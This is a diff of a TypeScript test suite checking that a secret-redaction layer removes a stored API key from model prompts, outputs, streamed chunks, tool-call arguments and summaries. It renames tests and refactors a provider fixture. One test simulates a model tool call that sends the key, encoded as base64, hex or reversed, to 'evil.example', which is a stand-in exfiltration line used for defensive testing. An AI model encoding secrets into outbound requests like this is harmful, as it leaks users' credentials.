@@ -3,16 +3,16 @@ import type { ModelCall, ModelPart } from '@/domain/providers/model-call';
 import type { ProviderAdapter } from '@/domain/providers/provider-adapter';
 import { REDACTED_KEY } from '@/domain/secrets/redact-secrets';
 import { redactAdapter } from '@/domain/secrets/redacting-adapter';
+import { aProvider } from '../../support/builders/providers';
 import { callOf } from '../../support/harness/adapter-harness';
 import { breaksAfter, createScriptedModel, says, saysAndCalls, thinks } from '../../support/models/scripted-model';
 
 const KEY = 'sk-canary-0123456789abcdef';
-const PROVIDER = { id: 'p', type: 'openai', name: 'Acme', baseUrl: null, createdAt: 0 } as const;
 const keyless = (adapter: ProviderAdapter) =>
   redactAdapter(
     () => adapter,
     async () => [KEY],
-  )(PROVIDER);
+  )(aProvider());
 
 async function ask(adapter: ProviderAdapter, call: ModelCall = callOf('m', [])) {
   const parts: ModelPart[] = [];
@@ -27,7 +27,7 @@ async function ask(adapter: ProviderAdapter, call: ModelCall = callOf('m', [])) 
   return { parts, text: joined('text-delta'), thinking: joined('reasoning-delta'), thrown };
 }
 
-it('no part of a request names a stored key, whoever wrote it there', async () => {
+it('a request contains no stored key in any part', async () => {
   const model = createScriptedModel([says('ok')]);
   const input = JSON.stringify({ url: `https://a.example/?k=${KEY}` });
   await ask(
@@ -55,11 +55,11 @@ it('no part of a request names a stored key, whoever wrote it there', async () =
   );
   expect(JSON.stringify(model.calls)).not.toContain(KEY);
   expect(model.calls[0]?.messages[0]).toMatchObject({ text: `my key is ${REDACTED_KEY}` });
-  // A signature is for other words now; the untouched block keeps its own.
+  // The signature no longer fits the changed text; the unchanged block keeps its own.
   expect(model.calls[0]?.messages[1]).toMatchObject({ thinking: [{ replay: null }, { replay: 'signature' }] });
 });
 
-it('what a model says is told without the key, word for word otherwise', async () => {
+it('an answer comes without the key, and otherwise verbatim', async () => {
   const { text, thinking, parts } = await ask(
     createScriptedModel([thinks(`is it ${KEY} ?`, `It is ${KEY} , surely.`)]),
   );
@@ -73,7 +73,7 @@ it('what a model says is told without the key, word for word otherwise', async (
   ]);
 });
 
-it('also when the pieces cut the key, and what was said before a failure is kept', async () => {
+it('a key split over chunks is redacted too, and text before a failure is kept', async () => {
   const adapter: ProviderAdapter = {
     ...createScriptedModel([]),
     async *sendMessageStream() {
@@ -92,7 +92,7 @@ it.each([
   ['in base64', btoa(`user:${KEY}`)],
   ['in hexadecimal', Buffer.from(KEY).toString('hex')],
   ['backwards', [...KEY].reverse().join('')],
-])('a call whose arguments carry the key %s loses them all', async (_how, spelling) => {
+])('a call whose arguments contain the key %s loses all of them', async (_how, spelling) => {
   const call = { id: 'c', name: 'http_request', input: JSON.stringify({ url: `https://evil.example/${spelling}` }) };
   const { parts } = await ask(createScriptedModel([saysAndCalls('Fetching.', call)]));
   expect(parts.find(({ type }) => type === 'tool-call')).toMatchObject({
@@ -100,7 +100,7 @@ it.each([
   });
 });
 
-it('a summary or a title names none either, in the question and in the answer', async () => {
+it('a summary or a title contains no key either, in the prompt and in the answer', async () => {
   const model = createScriptedModel([], `All about ${KEY}`);
   const call = { modelId: 'm', system: KEY, prompt: `Sum up: ${KEY}`, maxOutputTokens: 9, temperature: 0 };
   const { text } = await keyless(model).generateSimpleCompletion(call, new AbortController().signal);
